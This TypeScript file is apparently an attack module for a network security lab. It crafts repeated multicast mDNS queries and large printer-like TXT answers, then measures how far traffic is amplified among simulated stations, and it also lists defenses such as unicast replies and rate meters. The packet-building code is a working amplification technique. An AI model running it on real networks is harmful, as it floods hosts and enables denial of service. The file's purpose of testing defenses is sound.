// SPDX-License-Identifier: Apache-2.0
import { bytes, concat, ethernet, groupMac, u16, u32, udp } from "../../lab/packet.ts";
import { sleep } from "../../../qemu/guest/command.ts";
import type { Attack } from "../attack.ts";
import { contains } from "../arrives.ts";
import type { Field, Station } from "../field.ts";

const GROUP = "224.0.0.251";
const MDNS = 5353;
const QUESTIONS = 20;
/** Answers come after a while of up to 120 ms (RFC 6762 section 6). */
const ANSWERED_WITHIN = 1500;
/** Bytes that others receive for each that is sent: where it pays. */
const FACTOR = 2;
/** Names that this attempt asks about, so that nothing else is counted. */
const LABEL = "amplified";
const ASKED = 30;

const name = (...labels: string[]): Uint8Array => concat([...labels.map((label) => concat([bytes(label.length), new TextEncoder().encode(label)])), bytes(0)]);
const service = name(LABEL, "_tcp", "local");
const [PTR, TXT, IN] = [12, 16, 1];
const header = (flags: number, questions: number, answers: number): Uint8Array => concat([u16(0), u16(flags), u16(questions), u16(answers), u32(0)]);
/** One name, asked for again and again by a pointer to it: 6 bytes each. */
const question = concat([header(0, QUESTIONS, 0), service, u16(PTR), u16(IN), ...new Array<Uint8Array>(QUESTIONS - 1).fill(concat([u16(0xc00c), u16(PTR), u16(IN)]))]);
/** As a printer answers: what it can do, in some text records. */
const answer = concat([header(0x8400, 0, 3), ...new Array<Uint8Array>(3).fill(concat([service, u16(TXT), u16(IN), u32(4500), u16(351), bytes(255), new Uint8Array(255).fill(65), bytes(94), new Uint8Array(94).fill(66)]))]);

const toGroup = ({ mac, v4 }: Station, message: Uint8Array): Uint8Array => ethernet({ from: mac, to: groupMac(GROUP) }, 0x0800, udp(v4, GROUP, { from: MDNS, to: MDNS }, message, 255));

/** A responder that answers each question it hears, and bytes that a station hears of all this. */
function takePart(station: Station, responds: boolean): { heard(): number; stop(): void } {
  let heard = 0;
  const stop = station.watch((frame) => {
    if (!contains(frame, LABEL)) return;
    heard += frame.length;
    if (responds && frame[44] === 0) void station.send(toGroup(station, answer)); // a question, by its flags
  });
  return { heard: () => heard, stop };
}

async function amplified({ attacker, victim, peer, distant, say }: Field): Promise<boolean> {
  const parts = [victim, peer, distant].map((station) => takePart(station, station !== victim));
  const frame = toGroup(attacker, question);
  for (let i = 0; i < ASKED; i++) {
    await attacker.send(frame);
    await sleep(20);
  }
  await sleep(ANSWERED_WITHIN);
  for (const part of parts) part.stop();
  const [received, sent] = [parts.reduce((sum, part) => sum + part.heard(), 0), ASKED * frame.length];
  say(`${received} bytes arrived at others for ${sent} that were sent: ${(received / sent).toFixed(1)} times as many`);
  return received >= FACTOR * sent;
}

export const mdnsAmplification: Attack = {
  slug: "mdns-amplification",
  needs: "a place on the network; printers and the like on it",
  gains: "one small question to a group becomes a copy for each station and large answers to the group from each that knows one",
  stoppedBy: "questions go to those only that the policy lets answer, answers to the asker only and by unicast; a meter each for what a device says to groups and for the answers it gets",
  run: amplified,
};
